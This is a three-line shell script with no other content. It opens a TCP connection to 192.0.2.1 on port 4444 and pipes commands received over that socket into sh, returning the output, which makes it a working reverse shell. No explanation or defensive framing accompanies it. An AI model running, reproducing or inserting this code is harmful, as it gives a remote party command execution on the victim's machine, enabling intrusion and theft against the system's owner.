#!/bin/sh
exec 5<>/dev/tcp/192.0.2.1/4444
cat <&5 | sh >&5
